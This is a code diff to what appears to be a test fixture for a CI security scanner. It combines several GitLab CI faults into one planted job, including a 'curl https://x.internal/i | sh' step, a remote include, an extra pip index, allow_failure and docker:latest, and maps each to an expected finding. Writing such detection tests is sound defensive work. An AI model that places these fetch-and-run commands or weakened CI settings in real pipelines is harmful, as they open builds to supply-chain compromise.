@@ -532,38 +532,29 @@ PIPELINES = [
         "      - run: make check\n        continue-on-error: true\n",
     ),
 ]
+JOB = """include: [{remote: 'https://x.internal/ci.yml'}, {project: a/b, file: c.yml}]
+planted:
+  image: docker:latest
+  allow_failure: true
+  variables: {PIP_EXTRA_INDEX_URL: x}
+  script:
+    - curl https://x.internal/i | sh
+    - make check
+"""
 GITLAB = [
     Fault(
-        {"SEC-605": ".gitlab-ci.yml include=remote:https://x.internal"},
+        {
+            "SEC-602": ".gitlab-ci.yml PIP_EXTRA_INDEX_URL",
+            "SEC-603": ".gitlab-ci.yml curl",
+            "SEC-605": ".gitlab-ci.yml include=remote:https://x.internal",
+            "SEC-606": ".gitlab-ci.yml planted.allow_failure=true",
+            "SEC-609": ".gitlab-ci.yml docker:latest",
+        },
         ".gitlab-ci.yml",
         "",
-        "include: [{remote: 'https://x.internal/ci.yml'}, {project: a/b, file: c.yml}]\n",
+        JOB,
     ),
     Fault({"SEC-605": ".gitlab-ci.yml include=file:c.yml,project:a/b"}, ".gitlab-ci.yml", "", ""),
-    Fault(
-        {"SEC-609": ".gitlab-ci.yml docker:latest"},
-        ".gitlab-ci.yml",
-        "image: docker:28",
-        "image: docker:latest",
-    ),
-    Fault(
-        {"SEC-606": ".gitlab-ci.yml check.allow_failure=true"},
-        ".gitlab-ci.yml",
-        "  script:\n    - make check\n",
-        "  allow_failure: true\n  script:\n    - make check\n",
-    ),
-    Fault(
-        {"SEC-603": ".gitlab-ci.yml curl"},
-        ".gitlab-ci.yml",
-        "    - make verify-tag\n",
-        "    - curl https://x.internal/i | sh\n    - make verify-tag\n",
-    ),
-    Fault(
-        {"SEC-602": ".gitlab-ci.yml PIP_EXTRA_INDEX_URL"},
-        ".gitlab-ci.yml",
-        "  GIT_DEPTH: 0",
-        "  PIP_EXTRA_INDEX_URL: x\n  GIT_DEPTH: 0",
-    ),
 ]
 WORDS = "hunter" + "2"  # a line with both halves would be a finding of the template's own scan
 SECRETS = [
